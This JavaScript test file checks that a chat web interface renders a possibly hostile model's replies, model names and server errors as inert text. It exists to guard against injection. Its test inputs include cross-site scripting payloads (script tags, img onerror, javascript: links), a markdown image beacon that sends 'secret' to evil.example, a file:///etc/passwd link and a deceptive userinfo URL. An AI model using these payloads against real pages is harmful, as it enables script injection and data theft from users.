// Output of a hostile model: it becomes text, loads nothing and breaks no layout.
import assert from "node:assert/strict";
import { test } from "node:test";
import { answered, ask, open, ready, skip, stream, until } from "./browser.mjs";

const shared = open();

async function answer(...texts) {
  const page = await shared.page({ answers: { "/v1/chat/completions": () => stream(...texts) } });
  await ready(page);
  await ask(page, "Hello");
  await answered(page);
  return page;
}

const shown = (page) => page.$eval(".answer .body", (e) => e.textContent);
const links = (page) => page.$$eval(".answer .body a", (all) =>
  all.map((a) => ({ href: a.href, text: a.textContent, rel: a.rel, target: a.target })));

test("HTML is text", { skip }, async () => {
  const attack = '<img src="https://evil.example/x" onerror="document.title=1"><script>document.title=1</script>\n' +
    '<iframe srcdoc="x"></iframe> <style>*{display:none}</style> <a href="javascript:document.title=1">a</a> &lt;b&gt;';
  const page = await answer(attack, "\n\n```html\n<script>document.title=1</script>\n```\n\n| <b>x</b> |\n|---|\n| <img src=x> |\n");
  const tags = await page.$$eval(".answer .body *", (all) => all.map((e) => e.tagName.toLowerCase()));
  for (const tag of ["img", "script", "iframe", "style", "b"]) assert.ok(!tags.includes(tag), `there is a ${tag}`);
  assert.match(await shown(page), /<img src="https:\/\/evil\.example\/x" onerror/);
  assert.deepEqual((await links(page)).map((l) => l.href), ["https://evil.example/x"]);
  assert.match(await shown(page), /&lt;b&gt;/);
  assert.notEqual(await page.title(), "1");
  assert.deepEqual(page.problems, []);
});

test("images are not loaded, and only addresses of the web become links", { skip }, async () => {
  const page = await answer("![pixel](https://evil.example/p.png?q=secret) [run](javascript:alert(1)) [run](JaVaScRiPt:alert(2)) ",
    "[data](data:text/html,x) [file](file:///etc/passwd) [blob](blob:x) [rel](/v1/models) [v](vbscript:x) <javascript:x> ",
    "[bank](https://bank.example@evil.example/) https://plain.example/a. [ok](https://ok.example/b) [![i](https://a.example/i.png)](https://b.example/)");
  const found = await links(page);
  assert.deepEqual(found.map((l) => new URL(l.href).host),
    ["evil.example", "evil.example", "plain.example", "ok.example", "b.example"]);
  for (const l of found) {
    assert.match(l.href, /^https:/);
    assert.equal(l.rel, "noopener noreferrer");
    assert.equal(l.target, "_blank");
    assert.ok(l.text.includes(new URL(l.href).host), `${l.text} does not show its host`);
  }
  assert.match(await shown(page), /run \(javascript:alert\(1\)\) run \(JaVaScRiPt:alert\(2\)\) data \(data:text\/html,x\)/);
  assert.deepEqual(page.problems, []);
});

test("long lines and deep nesting keep the layout and the speed", { skip }, async () => {
  const long = ["x".repeat(100_000), "[".repeat(20_000), "*a ".repeat(5_000), "`".repeat(5_001), `# ${" ".repeat(50_000)}x`,
    ">".repeat(5_000), "- ".repeat(5_000), "|".repeat(20_000), `|${"a|".repeat(2_000)}\n|${"-|".repeat(2_000)}`, "~~~\n".repeat(500),
    "_".repeat(5_000), "<".repeat(5_000), "![](".repeat(3_000), "https://a.example/".repeat(300), "\u202e\u0000\ud800 reversed"];
  for (const width of [320, 1600]) {
    const page = await shared.page({ width, answers: { "/v1/chat/completions": () => stream(...long.map((l) => `${l}\n\n`)) } });
    await ready(page);
    await ask(page, "Hello");
    await answered(page);
    const wide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
    assert.ok(wide <= 0, `the page is ${wide} px wider than ${width}`);
    const log = await page.$eval("#log", (e) => e.scrollWidth - e.clientWidth);
    assert.ok(log <= 0, `the conversation is ${log} px wider than its column`);
    await until(page, () => document.getElementById("prompt").disabled === false);
    assert.deepEqual(page.problems, []);
  }
});

test("names of models and errors of the server are text", { skip }, async () => {
  const evil = "<img src=x onerror=alert(1)>";
  const json = (status, value) => ({ status, contentType: "application/json", body: JSON.stringify(value) });
  const page = await shared.page({ answers: {
    "/v1/models": () => json(200, { data: [{ id: evil }, { id: "b" }] }),
    "/v1/chat/completions": () => json(400, { error: { message: evil } }),
  } });
  await ready(page);
  await ask(page, evil);
  await answered(page);
  assert.equal((await page.$$("img")).length, 0);
  assert.equal(await page.$eval(".failure p", (e) => e.textContent), evil);
  assert.equal(await page.$eval(".user .body", (e) => e.textContent), evil);
  assert.deepEqual(page.problems.filter((p) => !p.includes("400")), []);
});
